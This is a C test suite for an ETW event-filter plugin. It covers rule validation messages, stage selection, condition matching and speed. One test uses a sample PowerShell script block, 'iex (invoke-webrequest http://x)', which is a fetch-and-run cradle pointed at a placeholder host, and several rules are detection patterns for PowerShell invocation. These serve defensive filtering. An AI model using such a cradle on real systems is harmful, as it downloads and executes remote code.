/*
 * Tests of the filter plugin (plugins/filter): rule validation messages,
 * stage selection, every condition kind, and evaluation speed, through the
 * built filter.so and a stand-in host (test_plugin_fakehost.h).  The
 * end-to-end tests through `etwhost run` are in test_plugin_e2e.c.
 */
#include "test.h"
#include "test_plugin_fakehost.h"

/* Create a filter instance or fail the test with the plugin's message. */
static void *make(struct fake_host *fh, const char *settings)
{
    void *inst = NULL;
    char err[512];
    etwhost_status rc = fh_create(fh, settings, &inst, err, sizeof err);
    ASSERT_MSG(rc == ETWHOST_OK, "create failed: %s\n  settings: %s", err, settings);
    return inst;
}

/* Expect create to fail with exactly this message. */
static void expect_error(const char *settings, const char *msg)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    void *inst = NULL;
    char err[512];
    etwhost_status rc = fh_create(&fh, settings, &inst, err, sizeof err);
    ASSERT_MSG(rc == ETWHOST_ERR_CONFIG, "expected ERR_CONFIG for %s, got %d", settings, (int)rc);
    ASSERT_STREQ(err, msg);
    fh_free(&fh);
}

static int run(struct fake_host *fh, void *inst, struct fake_event *e)
{
    etwhost_status rc = fh->desc->process(inst, FEV(e));
    ASSERT(rc == ETWHOST_OK || rc == ETWHOST_DROP);
    return rc == ETWHOST_OK;
}

TEST(plugin_filter_rule_errors_name_json_path)
{
    expect_error("{\"rule\":{\"and\":[{\"provider\":\"Microsoft-Windows-PowerShell\"},"
                 "{\"not\":{\"event_id\":[4103]}},"
                 "{\"or\":[{\"level_max\":3},{\"prop\":\"ScriptBlockText\",\"regx\":\"x\"}]}]}}",
                 "rule.and[2].or[1]: unknown key \"regx\" (did you mean \"regex\"?)");
    expect_error("{\"rule\":{\"evnt_id\":5}}",
                 "rule: unknown key \"evnt_id\" (did you mean \"event_id\"?)");
    expect_error("{\"rule\":{\"provder\":\"X\"}}",
                 "rule: unknown key \"provder\" (did you mean \"provider\"?)");
    expect_error("{\"rule\":{\"colour\":\"X\"}}", "rule: unknown key \"colour\"");
    expect_error("{\"rule\":{\"or\":[{\"event_id\":[1,\"10-1\"]}]}}",
                 "rule.or[0].event_id[1]: bad range \"10-1\" (start is greater than end)");
    expect_error("{\"rule\":{\"event_id\":70000}}",
                 "rule.event_id: 70000 is not an integer in 0-65535");
    expect_error("{\"rule\":{\"event_id\":[]}}", "rule.event_id: empty list (it would never match)");
    expect_error("{\"rule\":{\"opcode\":\"1-300\"}}",
                 "rule.opcode: bad range \"1-300\" (expected \"A-B\" with numbers in 0-255)");
    expect_error("{\"rule\":{\"prop\":\"A\",\"regex\":\"(abc\"}}",
                 "rule.regex: bad regular expression at offset 4: missing closing parenthesis");
    expect_error("{\"rule\":{\"and\":[]}}", "rule.and: empty array (\"and\" needs at least one rule)");
    expect_error("{\"rule\":{\"and\":[{\"pid\":4}],\"provider\":\"X\"}}",
                 "rule: \"and\" must be the only key of its object (found \"provider\" too; "
                 "wrap conditions in {\"and\": [...]})");
    expect_error("{\"rule\":{\"not\":[{\"pid\":4}]}}",
                 "rule.not: expected a rule object, got array");
    expect_error("{\"rule\":{\"regex\":\"a\"}}",
                 "rule: \"regex\" is a property operator and needs \"prop\" in the same object");
    expect_error("{\"rule\":{\"prop\":\"A\"}}",
                 "rule: \"prop\" needs an operator: equals, prefix, suffix, contains, in, regex, "
                 "eq, ne, gt, ge, lt, le or exists");
    expect_error("{\"rule\":{\"prop\":\"A\",\"gt\":\"5\"}}", "rule.gt: expected a number, got string");
    expect_error("{\"rule\":{\"provider\":\"{0a0b0c0d-1111-2222-3333-44445555666}\"}}",
                 "rule.provider: bad GUID \"{0a0b0c0d-1111-2222-3333-44445555666}\" "
                 "(expected {xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx})");
    expect_error("{\"rule\":{\"level_max\":300}}",
                 "rule.level_max: expected an integer level in 0-255 (1 critical .. 5 verbose)");
    expect_error("{\"rule\":{\"keywords_any\":\"0xZZ\"}}",
                 "rule.keywords_any: bad mask \"0xZZ\" (expected a number or \"0x...\" hex string)");
    expect_error("{\"rule\":{\"keywords_all\":0}}", "rule.keywords_all: mask 0 selects no keyword bits");
    expect_error("{\"rule\":{}}",
                 "rule: empty rule object (expected \"and\", \"or\", \"not\" or conditions such as "
                 "\"provider\")");
    expect_error("{\"rule\":[1]}", "rule: expected a rule object, got array");
    expect_error("{\"mode\":\"inclde\",\"rule\":{\"pid\":1}}",
                 "mode: unknown value \"inclde\" (did you mean \"include\"?)");
    expect_error("{\"mode\":5,\"rule\":{\"pid\":1}}",
                 "mode: expected a string (\"include\" or \"exclude\")");
    expect_error("{\"mode\":\"include\"}",
                 "rule: missing (the filter needs a rule, e.g. "
                 "{\"provider\": \"Microsoft-Windows-PowerShell\"})");
    expect_error("{\"stage\":\"record\",\"rule\":{\"or\":[{\"pid\":4},{\"prop\":\"A\",\"exists\":true}]}}",
                 "stage: \"record\" is impossible: rule.or[1] needs decoded properties "
                 "(use \"auto\" or \"event\")");
    expect_error("{\"rule\":{\"prop\":\"A\",\"exists\":false,\"equals\":\"x\"}}",
                 "rule: \"exists\": false cannot be combined with other operators");
    expect_error("{\"rule\":{\"prop\":\"A\",\"in\":[\"a\",null]}}",
                 "rule.in[1]: expected a string or number, got null");
    /* Top-level keys are declared in settings_keys; the host (here: the fake) rejects others. */
    expect_error("{\"rules\":{\"pid\":1}}", "unknown setting \"rules\"");
}

TEST(plugin_filter_stage_follows_rule)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    ASSERT_EQ(fh.desc->kind, ETWHOST_KIND_FILTER);
    void *a = make(&fh, "{\"rule\":{\"and\":[{\"provider\":\"P*\"},{\"not\":{\"event_id\":\"1-9\"}},"
                        "{\"keywords_any\":\"0x10\"},{\"pid\":[4,\"100-200\"]}]}}");
    ASSERT(fh.stage_set);
    ASSERT_EQ(fh.stage, ETWHOST_STAGE_RECORD);
    fh.desc->destroy(a);
    fh.stage_set = 0;
    void *b = make(&fh, "{\"rule\":{\"or\":[{\"level_max\":2},{\"process_name\":\"cmd.exe\"}]}}");
    ASSERT(fh.stage_set);
    ASSERT_EQ(fh.stage, ETWHOST_STAGE_EVENT);
    fh.desc->destroy(b);
    void *c = make(&fh, "{\"stage\":\"event\",\"rule\":{\"level_max\":2}}");
    ASSERT_EQ(fh.stage, ETWHOST_STAGE_EVENT);
    fh.desc->destroy(c);
    void *d = make(&fh, "{\"stage\":\"record\",\"rule\":{\"level_max\":2}}");
    ASSERT_EQ(fh.stage, ETWHOST_STAGE_RECORD);
    fh.desc->destroy(d);
    fh_free(&fh);
}

TEST(plugin_filter_header_conditions)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    struct fake_event e;

    /* Provider: exact (case-insensitive), glob, GUID. */
    void *p = make(&fh, "{\"rule\":{\"provider\":[\"microsoft-windows-powershell\","
                        "\"Etwhost-Synthetic-*\",\"{a0c1853b-5c40-4b15-8766-3cf1c58f985a}\"]}}");
    fev_init(&e, "Microsoft-Windows-PowerShell", 1, 4);
    ASSERT(run(&fh, p, &e));
    fev_init(&e, "Microsoft-Windows-PowerShell-Extra", 1, 4);
    ASSERT(!run(&fh, p, &e));
    fev_init(&e, "Etwhost-Synthetic-Dns", 1, 4);
    ASSERT(run(&fh, p, &e));
    fev_init(&e, "Etwhost-Synthetic", 1, 4);
    ASSERT(!run(&fh, p, &e));
    fev_init(&e, "", 1, 4);
    e.hdr.provider_guid.data1 = 0xa0c1853b;
    e.hdr.provider_guid.data2 = 0x5c40;
    e.hdr.provider_guid.data3 = 0x4b15;
    memcpy(e.hdr.provider_guid.data4, "\x87\x66\x3c\xf1\xc5\x8f\x98\x5a", 8);
    ASSERT(run(&fh, p, &e));
    e.hdr.provider_guid.data4[7] = 0x5b;
    ASSERT(!run(&fh, p, &e));
    /* Same name pointer, new GUID and back: the one-entry cache must not lie. */
    static const char *name = "Other";
    fev_init(&e, name, 1, 4);
    ASSERT(!run(&fh, p, &e));
    e.hdr.provider_guid.data1 = 0xa0c1853b;
    e.hdr.provider_guid.data2 = 0x5c40;
    e.hdr.provider_guid.data3 = 0x4b15;
    memcpy(e.hdr.provider_guid.data4, "\x87\x66\x3c\xf1\xc5\x8f\x98\x5a", 8);
    ASSERT(run(&fh, p, &e));
    fh.desc->destroy(p);

    /* Event ids and ranges; levels; keywords; opcode; task; version; pid; tid; name. */
    void *q = make(&fh, "{\"rule\":{\"event_id\":[4104,\"1-10\",65535],\"level_max\":4,"
                        "\"level_min\":2}}");
    fev_init(&e, "P", 4104, 4);
    ASSERT(run(&fh, q, &e));
    e.hdr.event_id = 10;
    ASSERT(run(&fh, q, &e));
    e.hdr.event_id = 11;
    ASSERT(!run(&fh, q, &e));
    e.hdr.event_id = 65535;
    ASSERT(run(&fh, q, &e));
    e.hdr.event_id = 0;
    ASSERT(!run(&fh, q, &e));
    e.hdr.event_id = 5;
    e.hdr.level = 5;
    ASSERT(!run(&fh, q, &e));
    e.hdr.level = 1;
    ASSERT(!run(&fh, q, &e));
    e.hdr.level = 2;
    ASSERT(run(&fh, q, &e));
    fh.desc->destroy(q);

    void *k = make(&fh, "{\"rule\":{\"or\":[{\"keywords_any\":\"0x8000000000000000\"},"
                        "{\"keywords_all\":6}]}}");
    fev_init(&e, "P", 1, 4);
    e.hdr.keywords = 0x8000000000000001ull;
    ASSERT(run(&fh, k, &e));
    e.hdr.keywords = 0x2;
    ASSERT(!run(&fh, k, &e));
    e.hdr.keywords = 0x7;
    ASSERT(run(&fh, k, &e));
    fh.desc->destroy(k);

    void *o = make(&fh, "{\"rule\":{\"opcode\":[1,2],\"task\":\"100-200\",\"version\":0,"
                        "\"tid\":[\"7-8\"],\"event_name\":\"Process*\"}}");
    fev_init(&e, "P", 1, 4);
    e.hdr.opcode = 2;
    e.hdr.task = 150;
    e.hdr.tid = 8;
    e.hdr.event_name = "ProcessStart";
    ASSERT(run(&fh, o, &e));
    e.hdr.opcode = 3;
    ASSERT(!run(&fh, o, &e));
    e.hdr.opcode = 1;
    e.hdr.task = 201;
    ASSERT(!run(&fh, o, &e));
    e.hdr.task = 100;
    e.hdr.version = 1;
    ASSERT(!run(&fh, o, &e));
    e.hdr.version = 0;
    e.hdr.event_name = "ModuleLoad";
    ASSERT(!run(&fh, o, &e));
    e.hdr.event_name = "processstop";
    ASSERT(run(&fh, o, &e));
    /* An event whose pid/tid are unknown never matches a pid/tid condition. */
    e.hdr.flags = ETWHOST_EVF_NO_PID;
    ASSERT(!run(&fh, o, &e));
    fh.desc->destroy(o);

    /* Exclude mode inverts; stats count both ways. */
    void *x = make(&fh, "{\"mode\":\"exclude\",\"rule\":{\"pid\":[4,\"70000-80000\",123456789]}}");
    fev_init(&e, "P", 1, 4);
    e.hdr.pid = 4;
    ASSERT(!run(&fh, x, &e));
    e.hdr.pid = 75000;
    ASSERT(!run(&fh, x, &e));
    e.hdr.pid = 123456789;
    ASSERT(!run(&fh, x, &e));
    e.hdr.pid = 5;
    ASSERT(run(&fh, x, &e));
    e.hdr.pid = 80001;
    ASSERT(run(&fh, x, &e));
    char stats[256];
    size_t need = 0;
    ASSERT_EQ(fh.desc->stats(x, stats, 8, &need), ETWHOST_ERR_RANGE);
    ASSERT(need > 8);
    ASSERT_OK(fh.desc->stats(x, stats, sizeof stats, &need));
    ASSERT_STREQ(stats, "{\"mode\":\"exclude\",\"stage\":\"record\",\"passed\":2,\"dropped\":3}");
    fh.desc->destroy(x);
    fh_free(&fh);
}

/* Randomised check of id sets (bitmap, binary search) against a plain list walk. */
TEST(plugin_filter_id_sets_match_naive)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    uint64_t seed = 12345;
    for (int round = 0; round < 60; round++) {
        uint32_t lo[12], hi[12];
        int n = 1 + (int)(seed % 12);
        uint32_t dom = round % 2 ? 70000u : 300u; /* pid: above 16 bits -> binary search */
        char rule[1024];
        size_t len = (size_t)snprintf(rule, sizeof rule, "{\"rule\":{\"pid\":[");
        for (int k = 0; k < n; k++) {
            seed = seed * 6364136223846793005ull + 1442695040888963407ull;
            lo[k] = (uint32_t)(seed >> 33) % dom;
            hi[k] = lo[k] + (uint32_t)((seed >> 20) % 20);
            len += (size_t)snprintf(rule + len, sizeof rule - len, "%s\"%u-%u\"", k ? "," : "",
                                    (unsigned)lo[k], (unsigned)hi[k]);
        }
        snprintf(rule + len, sizeof rule - len, "]}}");
        void *inst = make(&fh, rule);
        struct fake_event e;
        fev_init(&e, "P", 1, 4);
        for (uint32_t v = 0; v < dom + 40; v += (round % 2 ? 7 : 1)) {
            int want = 0;
            for (int k = 0; k < n; k++)
                if (v >= lo[k] && v <= hi[k])
                    want = 1;
            e.hdr.pid = v;
            ASSERT_MSG(run(&fh, inst, &e) == want, "pid %u, rule %s", (unsigned)v, rule);
        }
        fh.desc->destroy(inst);
    }
    fh_free(&fh);
}

TEST(plugin_filter_property_conditions)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    struct fake_event e;
    fev_init(&e, "P", 1, 4);
    fev_str(&e, "ScriptBlockText", "Get-Item; Invoke-Expression $x");
    fev_str(&e, "ImageName", "\\Device\\HarddiskVolume3\\Windows\\System32\\CMD.EXE");
    fev_int(&e, "Port", ETWHOST_PT_U16, 443);
    fev_int(&e, "Status", ETWHOST_PT_I32, -1073741790);
    fev_int(&e, "Big", ETWHOST_PT_U64, (int64_t)0xFFFFFFFFFFFFFFF0ull);
    fev_f64(&e, "LatencyMs", 12.5);
    fev_str(&e, "PortText", "8080");

    static const struct {
        const char *rule;
        int want;
    } cases[] = {
        {"{\"prop\":\"ScriptBlockText\",\"regex\":\"(?i)invoke-\"}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"regex\":\"invoke-\"}", 0},
        {"{\"prop\":\"ScriptBlockText\",\"regex\":\"invoke-\",\"ignore_case\":true}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"prefix\":\"Get-\"}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"prefix\":\"get-\"}", 0},
        {"{\"prop\":\"ScriptBlockText\",\"prefix\":\"get-\",\"ignore_case\":true}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"suffix\":\"$x\"}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"contains\":\"Expression\"}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"contains\":\"expression\"}", 0},
        {"{\"prop\":\"ScriptBlockText\",\"equals\":\"Get-Item; Invoke-Expression $x\"}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"equals\":\"Get-Item\"}", 0},
        {"{\"prop\":\"ScriptBlockText\",\"in\":[\"a\",\"Get-Item; Invoke-Expression $x\"]}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"in\":[\"a\",\"b\"]}", 0},
        {"{\"prop\":\"Port\",\"equals\":443}", 1},
        {"{\"prop\":\"Port\",\"in\":[80,443]}", 1},
        {"{\"prop\":\"Port\",\"in\":[\"443\"]}", 1},
        {"{\"prop\":\"Port\",\"gt\":442,\"lt\":444}", 1},
        {"{\"prop\":\"Port\",\"ge\":444}", 0},
        {"{\"prop\":\"Port\",\"ne\":443}", 0},
        {"{\"prop\":\"Port\",\"le\":443.5}", 1},
        {"{\"prop\":\"Status\",\"lt\":0}", 1},
        {"{\"prop\":\"Status\",\"eq\":-1073741790}", 1},
        {"{\"prop\":\"Big\",\"gt\":9223372036854775807}", 1},
        {"{\"prop\":\"Big\",\"lt\":0}", 0},
        {"{\"prop\":\"LatencyMs\",\"gt\":12,\"lt\":13}", 1},
        {"{\"prop\":\"LatencyMs\",\"equals\":12.5}", 1},
        {"{\"prop\":\"PortText\",\"ge\":8000}", 1},
        {"{\"prop\":\"ScriptBlockText\",\"gt\":1}", 0},
        {"{\"prop\":\"Missing\",\"exists\":false}", 1},
        {"{\"prop\":\"Missing\",\"exists\":true}", 0},
        {"{\"prop\":\"Port\",\"exists\":true}", 1},
        {"{\"prop\":\"Missing\",\"equals\":\"\"}", 0},
        {"{\"not\":{\"prop\":\"Missing\",\"equals\":\"x\"}}", 1},
        {"{\"process_name\":\"cmd.exe\"}", 1},
        {"{\"process_name\":\"*\\\\System32\\\\*\"}", 1},
        {"{\"process_name\":[\"powershell.exe\",\"pwsh.exe\"]}", 0},
        {"{\"prop\":\"Port\",\"equals\":443,\"provider\":\"p\",\"level_max\":4}", 1},
        {"{\"prop\":\"Port\",\"equals\":443,\"provider\":\"q\"}", 0},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        char settings[512];
        snprintf(settings, sizeof settings, "{\"rule\":%s}", cases[k].rule);
        void *inst = make(&fh, settings);
        ASSERT_EQ(fh.stage, ETWHOST_STAGE_EVENT);
        ASSERT_MSG(run(&fh, inst, &e) == cases[k].want, "rule %s: expected %s", cases[k].rule,
                   cases[k].want ? "pass" : "drop");
        fh.desc->destroy(inst);
    }
    /* process_name falls back to ProcessName when ImageName is absent. */
    struct fake_event f;
    fev_init(&f, "P", 1, 4);
    fev_str(&f, "ProcessName", "pwsh.exe");
    void *pn = make(&fh, "{\"rule\":{\"process_name\":[\"powershell.exe\",\"PWSH.exe\"]}}");
    ASSERT(run(&fh, pn, &f));
    fh.desc->destroy(pn);
    fh_free(&fh);
}

/* The example from the design brief, on events that hit each branch. */
TEST(plugin_filter_combined_example)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    void *inst = make(&fh,
                      "{\"mode\":\"include\",\"rule\":{\"and\":["
                      "{\"provider\":\"Microsoft-Windows-PowerShell\"},"
                      "{\"not\":{\"event_id\":[4103]}},"
                      "{\"or\":[{\"level_max\":3},"
                      "{\"prop\":\"ScriptBlockText\",\"regex\":\"(?i)invoke-\"}]}]}}");
    ASSERT_EQ(fh.stage, ETWHOST_STAGE_EVENT);
    struct fake_event e;
    fev_init(&e, "Microsoft-Windows-PowerShell", 4104, 5);
    fev_str(&e, "ScriptBlockText", "iex (invoke-webrequest http://x)");
    ASSERT(run(&fh, inst, &e));
    fev_init(&e, "Microsoft-Windows-PowerShell", 4104, 5);
    fev_str(&e, "ScriptBlockText", "Get-Date");
    ASSERT(!run(&fh, inst, &e));
    fev_init(&e, "Microsoft-Windows-PowerShell", 4104, 3);
    ASSERT(run(&fh, inst, &e));
    fev_init(&e, "Microsoft-Windows-PowerShell", 4103, 2);
    ASSERT(!run(&fh, inst, &e));
    fev_init(&e, "Microsoft-Windows-Kernel-Process", 1, 2);
    ASSERT(!run(&fh, inst, &e));
    fh.desc->destroy(inst);
    fh_free(&fh);
}

static double ns_per_event(struct fake_host *fh, void *inst, struct fake_event *ev, int nev,
                           int expect_pass)
{
    const int rounds = 400000;
    uint64_t t0 = fh_now_ns();
    int passed = 0;
    for (int r = 0; r < rounds; r++)
        passed += fh->desc->process(inst, FEV(&ev[r % nev])) == ETWHOST_OK;
    uint64_t t1 = fh_now_ns();
    if (expect_pass >= 0)
        ASSERT_EQ(passed, expect_pass ? rounds : 0);
    return (double)(t1 - t0) / rounds;
}

/*
 * Cost per event of typical rules, including the call through the plugin's
 * process().  Printed for the record; the bound is loose so
 * sanitizer builds pass, but a pathological evaluator (allocation or
 * re-parsing per event) fails it.
 */
TEST(plugin_filter_speed)
{
    struct fake_host fh;
    fh_init(&fh, "filter");
    struct fake_event ev[4];
    const char *provs[4] = {"Microsoft-Windows-PowerShell", "Microsoft-Windows-Kernel-Process",
                            "Microsoft-Windows-DNS-Client", "Etwhost-Synthetic-Process"};
    for (int k = 0; k < 4; k++) {
        fev_init(&ev[k], provs[k], (uint16_t)(4100 + k), (uint8_t)(2 + k % 3));
        ev[k].hdr.provider_guid.data1 = (uint32_t)k + 1;
        ev[k].hdr.pid = 1000u + (uint32_t)k;
        fev_str(&ev[k], "ScriptBlockText", "Get-ChildItem C:\\ | Invoke-Command -Script {x}");
        fev_int(&ev[k], "Port", ETWHOST_PT_U16, 443);
    }
    static const struct {
        const char *name, *rule;
    } rules[] = {
        {"provider exact", "{\"provider\":\"Microsoft-Windows-PowerShell\"}"},
        {"provider glob", "{\"provider\":\"*-Kernel-*\"}"},
        {"event_id list", "{\"event_id\":[4100,4101,\"4102-4103\",1,7,9]}"},
        {"level_max", "{\"level_max\":3}"},
        {"pid ranges", "{\"pid\":[\"1000-1001\",5,70000,\"80000-90000\"]}"},
        {"and of 3 header", "{\"and\":[{\"provider\":\"Microsoft-*\"},{\"level_max\":4},"
                            "{\"not\":{\"event_id\":4103}}]}"},
        {"prop equals", "{\"prop\":\"Port\",\"equals\":443}"},
        {"prop contains", "{\"prop\":\"ScriptBlockText\",\"contains\":\"invoke\","
                          "\"ignore_case\":true}"},
        {"prop regex", "{\"prop\":\"ScriptBlockText\",\"regex\":\"(?i)invoke-\"}"},
    };
    for (size_t k = 0; k < sizeof rules / sizeof rules[0]; k++) {
        char settings[512];
        snprintf(settings, sizeof settings, "{\"rule\":%s}", rules[k].rule);
        void *inst = make(&fh, settings);
        double ns = ns_per_event(&fh, inst, ev, 4, -1);
        printf("filter speed: %-16s %6.1f ns/event\n", rules[k].name, ns);
        ASSERT_MSG(ns < 2000.0, "%s: %.1f ns/event", rules[k].name, ns);
        fh.desc->destroy(inst);
    }
    fh_free(&fh);
}
